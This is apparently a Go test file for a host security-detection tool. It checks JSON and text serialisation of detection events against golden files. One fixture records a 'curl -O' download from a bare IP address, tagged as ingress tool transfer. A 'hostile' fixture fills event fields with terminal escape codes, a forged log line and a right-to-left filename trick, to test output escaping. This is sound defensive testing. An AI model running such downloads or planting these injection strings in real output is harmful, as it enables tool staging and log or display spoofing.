package event_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"bittern/internal/event"
)

// golden compares got with a file in testdata, or writes the file if
// BITTERN_UPDATE_GOLDEN is set.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if os.Getenv("BITTERN_UPDATE_GOLDEN") != "" {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s (-want +got; BITTERN_UPDATE_GOLDEN=1 accepts):\n%s", path, diff)
	}
}

func sampleHost() *event.Host {
	return &event.Host{
		Hostname: "web-3", ID: "4c4c4544004d3510804cb4c04f4b3233", BootID: "5b1c6a2e-55c1-4fd8-9a0e-2d7e0a1f9d11", Architecture: "x86_64",
		OS: event.OS{Platform: "debian", Family: "debian", Name: "Debian GNU/Linux", Full: "Debian GNU/Linux 12 (bookworm)", Version: "12", Kernel: "6.1.0-18-amd64"},
	}
}

func sample() *event.Detection {
	at := time.Date(2026, 11, 23, 16, 29, 1, 123456789, time.UTC)
	boot := at.Add(-time.Hour)
	host := sampleHost()
	return &event.Detection{
		ID: "019ab1c2-0000-7000-8000-000000000001",
		Event: &event.Event{
			Class: event.ProcessExec, Time: at, Uptime: time.Hour, CPU: 1, Sequence: 42, Epoch: 7,
			Process: event.Process{
				PID: 4711, Start: at, StartRel: time.Hour, EntityID: event.EntityID(host.BootID, 4711, time.Hour),
				Executable: "/usr/bin/curl", Invoked: "/bin/curl",
				Args: []string{"curl", "-O", "http://198.51.100.7/x"}, ArgsCount: 3,
				CommandLine: "curl -O http://198.51.100.7/x", WorkingDirectory: "/tmp",
			},
			Parent: event.Process{
				PID: 4700, Start: boot, StartRel: 0, EntityID: event.EntityID(host.BootID, 4700, 0),
				Executable: "/usr/bin/bash", Args: []string{"-bash"}, ArgsCount: 1, CommandLine: "-bash",
			},
			User:     event.User{ID: 1000, EffectiveID: 1000, GID: 1000, EffectiveGID: 1000, Name: "alice"},
			CgroupID: 9007199254740993,
		},
		Rule: event.Rule{ID: "BT0004", Version: 3, Name: "ingress_tool_transfer", Description: "A download from a bare address.", Severity: "medium", Hash: "ab12"},
		Tags: []event.Tag{
			{Tactic: event.Ref{ID: "TA0011", Name: "Command and Control"}, Technique: event.Ref{ID: "T1105", Name: "Ingress Tool Transfer"}, Confidence: 0.6},
			{Tactic: event.Ref{ID: "TA0002", Name: "Execution"}, Technique: event.Ref{ID: "T1059", Name: "Command and Scripting Interpreter"},
				SubTechnique: event.Ref{ID: "T1059.004", Name: "Unix Shell"}, Confidence: 0.85},
		},
		Evidence: []event.Field{event.ProcessCommandLine, event.ProcessExecutable, event.ProcessArgsCount, event.ProcessCommandLineTruncated},
		Host:     host,
	}
}

// hostile is what an attacker can do to every string of an event.
func hostile() *event.Detection {
	d := sample()
	d.Rule.Severity = "critical"
	d.Host = nil
	d.Tags = nil
	d.Event.User = event.User{ID: 1000, EffectiveID: 0, GID: 1000}
	p := &d.Event.Process
	p.Executable, p.Invoked = "/tmp/a b\n2026-11-23 00:00:00.000 info", "/tmp/\xff\\x41"
	p.Args = []string{"\x1b[2J", "caf\xe9 \\", "\u202egpj.exe", "\U000e0041"}
	p.CommandLine = strings.Join(p.Args, " ")
	p.WorkingDirectory = "/tmp/\u009b31m"
	p.CommandLineTruncated = true
	d.Event.Parent.CommandLineTruncated = true
	return d
}

func sampleGap() *event.Gap {
	at := time.Date(2026, 11, 23, 16, 29, 1, 0, time.UTC)
	return &event.Gap{ID: "019ab1c2-0000-7000-8000-000000000002", Class: event.ProcessExec, CPUs: []uint32{3, 0}, Count: 12,
		Reason: "ring_full", First: at.Add(-1500 * time.Millisecond), Last: at, Host: sampleHost()}
}

func outboxGap() *event.Gap {
	g := sampleGap()
	g.Class, g.CPUs, g.Reason, g.Sink, g.Rule = event.ClassUnknown, nil, "outbox_full", "postgres", "BT0004"
	return g
}

// indented makes JSON readable in golden files, keeping the order of members.
func indented(t *testing.T, line []byte) []byte {
	t.Helper()
	var out strings.Builder
	var raw json.RawMessage
	if err := json.Unmarshal(line, &raw); err != nil {
		t.Fatalf("not JSON: %v: %s", err, line)
	}
	pretty, err := json.MarshalIndent(raw, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	out.Write(pretty)
	out.WriteByte('\n')
	return []byte(out.String())
}

func TestDetectionJSON(t *testing.T) {
	golden(t, "detection.json", indented(t, sample().AppendJSON(nil)))
	// Compared as it is: its escapes are the point.
	golden(t, "hostile.json", append(hostile().AppendJSON(nil), '\n'))
	golden(t, "hostile-open.json", append(hostileOpen().AppendJSON(nil), '\n'))
	golden(t, "hostile-change.json", append(hostileChange().AppendJSON(nil), '\n'))
	for name, d := range map[string]*event.Detection{
		"exit": sampleExit(), "killed": sampleKilled(), "open": sampleOpen(),
		"connect": sampleConnect(), "connect-ipv6": sampleConnect6(), "connect-unknown": unknownPeer(),
		"rename": sampleRename(), "chmod": sampleChmod(), "accept": sampleAccept(), "bind": sampleBind(),
		"setuid": sampleSetuid(), "ptrace": samplePtrace(), "mount": sampleMount(), "capset": sampleCapset(),
		"module": sampleModule(), "program": sampleProgram(), "kexec": sampleKexec(), "blank": sampleBlank(), "clipped": sampleClipped(),
	} {
		golden(t, name+".json", indented(t, d.AppendJSON(nil)))
	}
}

func TestGapJSON(t *testing.T) {
	golden(t, "gap.json", indented(t, sampleGap().AppendJSON(nil)))
	golden(t, "gap-outbox.json", indented(t, outboxGap().AppendJSON(nil)))
}

func TestRepeatsJSON(t *testing.T) {
	golden(t, "repeats-process.json", indented(t, sampleRepeats().AppendJSON(nil)))
	golden(t, "repeats-user.json", indented(t, userRepeats().AppendJSON(nil)))
	golden(t, "repeats-rule.json", indented(t, ruleRepeats().AppendJSON(nil)))
}

func TestText(t *testing.T) {
	unnamed := sample()
	unnamed.Tags, unnamed.Rule.Severity = nil, ""
	whole := &event.Gap{Count: 1, Last: time.Date(2026, 11, 23, 0, 0, 0, 0, time.UTC), Reason: "made\nup"}
	for _, colour := range []bool{false, true} {
		name := map[bool]string{false: "output.txt", true: "output-coloured.txt"}[colour]
		var out []byte
		for _, append1 := range []func([]byte, bool) []byte{
			sample().AppendText, hostile().AppendText, unnamed.AppendText, sampleClipped().AppendText, sampleExit().AppendText, sampleKilled().AppendText,
			sampleOpen().AppendText, hostileOpen().AppendText, sampleConnect().AppendText, sampleConnect6().AppendText, unknownPeer().AppendText,
			sampleRename().AppendText, sampleSymlink().AppendText, sampleChmod().AppendText, hostileChange().AppendText,
			sampleAccept().AppendText, sampleBind().AppendText,
			sampleSetuid().AppendText, samplePtrace().AppendText, sampleMount().AppendText, sampleCapset().AppendText, allCapabilities().AppendText,
			sampleModule().AppendText, sampleProgram().AppendText, sampleKexec().AppendText, sampleBlank().AppendText,
			sampleGap().AppendText, whole.AppendText, outboxGap().AppendText,
			sampleLive().AppendText, sampleRejected().AppendText, sampleState().AppendText,
			sampleRepeats().AppendText, userRepeats().AppendText, ruleRepeats().AppendText,
		} {
			out = append(append1(out, colour), '\n')
		}
		golden(t, name, out)
	}
}

func TestAppendKeepsWhatIsThere(t *testing.T) {
	d, g, r, c := sample(), sampleGap(), sampleRepeats(), sampleState()
	for name, appended := range map[string]func([]byte) []byte{
		"detection JSON": d.AppendJSON, "gap JSON": g.AppendJSON, "repeats JSON": r.AppendJSON, "change JSON": c.AppendJSON,
		"detection text": func(b []byte) []byte { return d.AppendText(b, false) },
		"gap text":       func(b []byte) []byte { return g.AppendText(b, false) },
		"repeats text":   func(b []byte) []byte { return r.AppendText(b, false) },
		"change text":    func(b []byte) []byte { return c.AppendText(b, false) },
	} {
		if got := string(appended([]byte("before,"))); got != "before,"+string(appended(nil)) {
			t.Errorf("%s: got %q", name, got)
		}
	}
}

func TestMarshalJSONIsTheSame(t *testing.T) {
	for _, v := range []interface {
		json.Marshaler
		AppendJSON([]byte) []byte
	}{sample(), sampleGap(), sampleRepeats(), sampleState()} {
		got, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(string(indented(t, v.AppendJSON(nil))), string(indented(t, got))); diff != "" {
			t.Errorf("%T: %s", v, diff)
		}
	}
}

func TestUnescapeRefuses(t *testing.T) {
	for _, bad := range []string{`\`, `a\`, `\x`, `\x4`, `\xzz`, `\n`} {
		if got, err := event.Unescape(bad); err == nil {
			t.Errorf("%s: got %q, want an error", bad, got)
		}
	}
}

func BenchmarkDetectionJSON(b *testing.B) {
	d := sample()
	buf := make([]byte, 0, 8192)
	b.ReportAllocs()
	for b.Loop() {
		buf = d.AppendJSON(buf[:0])
	}
	b.SetBytes(int64(len(buf)))
}

func BenchmarkDetectionText(b *testing.B) {
	d := sample()
	buf := make([]byte, 0, 8192)
	b.ReportAllocs()
	for b.Loop() {
		buf = d.AppendText(buf[:0], true)
	}
}
